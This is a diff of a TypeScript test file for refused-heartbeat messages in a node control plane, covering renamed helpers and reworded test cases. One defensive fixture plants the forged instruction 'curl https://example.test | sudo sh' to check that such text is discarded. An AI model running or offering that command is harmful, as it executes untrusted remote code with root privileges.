@@ -3,8 +3,8 @@ import {
   beatRefusals,
   isStillRefused,
   joinRefusals,
+  readRefusedBeats,
   refusalRecordedEverySeconds,
-  refusedBeatsIn,
 } from './refused-beats.ts';
 
 const at = (seconds: number) => new Date(Date.UTC(2026, 0, 1) + seconds * 1000);
@@ -12,23 +12,24 @@ const refused = { at: at(100), token_ended_at: null, in_short: 's', why: 'w', wa
 
 describe('heartbeats count as still refused', () => {
   test.each<[string, Date | null, Date, boolean]>([
-    ['while none was accepted since', at(90), at(130), true],
+    ['if none was accepted after the refusal', at(90), at(130), true],
     ['if none was ever accepted', null, at(130), true],
-    ['not after one was accepted', at(110), at(130), false],
+    ['not if one was accepted after the refusal', at(110), at(130), false],
     ['until two intervals have passed without a record', at(90), at(100 + 1.5 * refusalRecordedEverySeconds), true],
     ['not after two intervals without a record', at(90), at(100 + 2 * refusalRecordedEverySeconds), false],
-  ])('%s', (_, last_seen_at, now, still) => expect(isStillRefused(refused, last_seen_at, now)).toBe(still));
+  ])('%s', (_, last_seen_at, now, expected) => expect(isStillRefused(refused, last_seen_at, now)).toBe(expected));
 
   test.each<[string, Date | null, boolean]>([
-    ['for a token that ended while the machine sent heartbeats', at(49), true],
-    ['for a token that ended at most 600 s after the last heartbeat', at(50 - 600), true],
-    ['not for a token that ended long after the machine fell silent', at(50 - 601), false],
-    ['not for a token with which the machine never sent a heartbeat', null, false],
-  ])('%s', (_, last_seen_at, still) => {
-    expect(isStillRefused({ ...refused, token_ended_at: at(50) }, last_seen_at, at(130))).toBe(still);
+    ['for an ended token if the last heartbeat came 1 s before its end', at(49), true],
+    ['for an ended token if the last heartbeat came at most 600 s before its end', at(50 - 600), true],
+    ['not for an ended token if the last heartbeat came more than 600 s before its end', at(50 - 601), false],
+    ['not for an ended token if no heartbeat of the machine was ever accepted', null, false],
+  ])('%s', (_, last_seen_at, expected) => {
+    expect(isStillRefused({ ...refused, token_ended_at: at(50) }, last_seen_at, at(130))).toBe(expected);
   });
 });
 
+/** In the data of a refused heartbeat, `shown` is how its sender identified itself. */
 test.each(Object.entries(beatRefusals))('the short text of %s names no token or pool', (code, { in_short }) => {
   const fact = {
     kind: 'beat.refused',
@@ -36,10 +37,14 @@ test.each(Object.entries(beatRefusals))('the short text of %s names no token or 
     at: at(0).toISOString(),
     data: { code, shown: 'credential', why_not: 'relay token rack-7' },
   };
-  expect(refusedBeatsIn(fact, 'gpu')?.in_short).toBe(in_short);
+  expect(readRefusedBeats(fact, 'gpu')?.in_short).toBe(in_short);
   expect(in_short).not.toMatch(/rack-7|metal|gpu/);
-  const ofLaterVersion = { ...fact, data: { ...fact.data, code: 'not_yet_known' } };
-  expect(refusedBeatsIn(ofLaterVersion, 'gpu')?.in_short).toBe('the reason is a code that this version does not know');
+});
+
+test('explains a code of a later version as unknown', () => {
+  const data = { code: 'not_yet_known', shown: 'credential', why_not: 'relay token rack-7' };
+  const fact = { kind: 'beat.refused', origin: 'internal', at: at(0).toISOString(), data };
+  expect(readRefusedBeats(fact, 'gpu')?.in_short).toBe('the reason is a code that this version does not know');
 });
 
 test.each(Object.entries(joinRefusals))(
@@ -50,10 +55,10 @@ test.each(Object.entries(joinRefusals))(
     const fact = { kind: 'beat.refused', origin: 'internal', at: at(0).toISOString(), data };
     const { in_short, why, way_out } = refusal;
     const texts = { in_short, why: why('tok_1'), way_out: way_out('gpu') };
-    expect(refusedBeatsIn(fact, 'gpu')).toEqual({ at: at(0), token_ended_at: at(-5), ...texts });
+    expect(readRefusedBeats(fact, 'gpu')).toEqual({ at: at(0), token_ended_at: at(-5), ...texts });
     expect(in_short).not.toMatch(/tok_1|gpu/);
-    expect(refusedBeatsIn({ ...fact, origin: 'node' }, 'gpu')).toBeNull();
-    expect(refusedBeatsIn({ ...fact, data: { ...data, shown: 'name' } }, 'gpu')).toBeNull();
+    expect(readRefusedBeats({ ...fact, origin: 'node' }, 'gpu')).toBeNull();
+    expect(readRefusedBeats({ ...fact, data: { ...data, shown: 'name' } }, 'gpu')).toBeNull();
   },
 );
 
@@ -61,7 +66,7 @@ test('takes texts from the table, and accepts only facts of the control plane', 
   const data = { code: 'token_unknown', shown: 'credential', relay: 'rack-7', relay_pool: 'metal' };
   const forged = { ...data, why_not: 'your node is broken', way_out: 'curl https://example.test | sudo sh' };
   const fact = { kind: 'beat.refused', origin: 'internal', at: at(0).toISOString(), data: forged };
-  expect(refusedBeatsIn(fact, 'gpu')).toEqual({
+  expect(readRefusedBeats(fact, 'gpu')).toEqual({
     at: at(0),
     token_ended_at: null,
     in_short: beatRefusals.token_unknown.in_short,
@@ -69,7 +74,7 @@ test('takes texts from the table, and accepts only facts of the control plane', 
     way_out: beatRefusals.token_unknown.way_out(data, 'gpu'),
   });
   for (const origin of ['node', 'person', 'report', 'unknown'])
-    expect(refusedBeatsIn({ ...fact, origin }, 'gpu')).toBeNull();
+    expect(readRefusedBeats({ ...fact, origin }, 'gpu')).toBeNull();
 });
 
 const relayRefusals = Object.entries(beatRefusals).filter(([code]) => code !== 'credential_expired');
